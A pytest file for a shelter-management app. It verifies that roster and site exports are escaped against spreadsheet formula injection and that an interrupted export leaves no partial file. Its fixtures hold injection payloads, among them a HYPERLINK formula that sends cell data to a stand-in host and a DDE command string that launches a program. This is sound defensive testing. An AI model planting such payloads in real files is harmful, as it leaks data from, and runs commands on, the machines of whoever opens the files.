"""Every file the app writes is safe to open: no cell is a formula, whatever the data holds."""

from __future__ import annotations

import csv
import datetime

import pytest
from openpyxl import load_workbook

from shelter_app.exchange import roster_import as ri
from shelter_app.exchange.roster_export import export_roster
from shelter_app.exchange.sites_export import export_sites
from shelter_app.exchange.tables import FORMULA_START, read_table
from shelter_app.services import roster, sites, stays

D = datetime.date
DAY = D(2022, 11, 25)
EVIL = ['=HYPERLINK("http://x.invalid/?"&B2,"klik")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "=1+1"]


@pytest.fixture
def evil(operation):
    _event, tent, school = operation
    sites.update_site(school.id, name="=cmd|' /C calc'!A0")
    household = roster.register_household(kk="3203012503770011", address="=1+2")
    people = [
        roster.add_person(
            household.id, confirmed=True, name=name, sex="P", birth_date=D(1980 + n, 5, 1), notes="@x"
        ).person.id
        for n, name in enumerate(EVIL)
    ]
    stays.check_in(people, school.id, D(2022, 11, 22))
    return school


def no_formula_in_xlsx(path) -> int:
    cells = 0
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                cells += 1
                assert cell.data_type != "f", (cell.coordinate, cell.value)
    return cells


def no_formula_in_csv(path) -> int:
    cells = 0
    with open(path, encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle, delimiter=";" if path.read_text("utf-8-sig").count(";") > 5 else ","):
            for value in row:
                cells += 1
                assert not value.startswith(FORMULA_START), value
    return cells


@pytest.mark.parametrize("fmt", ["csv", "hxl", "xlsx"])
def test_roster_and_sites_exports_hold_no_formula(evil, tmp_path, fmt):
    roster_file = export_roster(tmp_path / f"roster.{fmt}", fmt, day=DAY, full_nik=True).path
    sites_file = export_sites(tmp_path / f"sites.{fmt}", fmt, day=DAY).path
    for path in (roster_file, sites_file):
        check = no_formula_in_xlsx if fmt == "xlsx" else no_formula_in_csv
        assert check(path) > 10
    if fmt == "xlsx":
        values = {str(v) for row in load_workbook(roster_file).active.iter_rows(values_only=True) for v in row}
        assert set(EVIL) <= values  # as text, exactly as typed
    elif fmt == "csv":
        assert "'=1+1" in roster_file.read_text("utf-8-sig")
    else:  # HXL carries no personal data (population aggregates): the site names are what it holds
        assert "'=cmd" in sites_file.read_text("utf-8-sig")
    # Read back by the import, the escaped names are the names again.
    if fmt == "csv":
        table = read_table(roster_file)
        assert set(EVIL) <= {cell for _n, cells in table.rows for cell in cells}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_rejected_rows_file_holds_no_formula(operation, tmp_path, suffix):
    source = tmp_path / "in.csv"
    source.write_text(
        "Nama,Jenis Kelamin,NIK,Tanggal Lahir\n"
        '"=HYPERLINK(""http://x.invalid/?""&C2,""klik"")",X,3203015005800001,01/05/1980\n'
        "+SUM(1),L,,01/05/1980\n"
        "Bad\x00Name,X,,01/05/1980\n",
        encoding="utf-8",
    )
    result = ri.import_roster(source, today=DAY, valid_only=True)
    out = ri.write_errors(result, tmp_path / f"rejected{suffix}", "id")
    check = no_formula_in_xlsx if suffix == ".xlsx" else no_formula_in_csv
    assert check(out) > 5


@pytest.mark.parametrize("fmt", ["csv", "hxl"])  # xlsx: nothing is written before its save
def test_an_export_stopped_half_way_leaves_no_file_under_its_name(tmp_path, fmt):
    from shelter_app.exchange.tables import write_rows

    def rows():
        for n in range(1000):
            if n == 500:
                raise KeyboardInterrupt  # as Ctrl+C, or a crash, half-way
            yield [f"Orang {n}", n]

    target = tmp_path / f"roster.{fmt}"
    target.write_text("the previous export")
    with pytest.raises(KeyboardInterrupt):
        write_rows(target, ["nama", "nomor"], rows(), fmt)
    assert target.read_text() == "the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
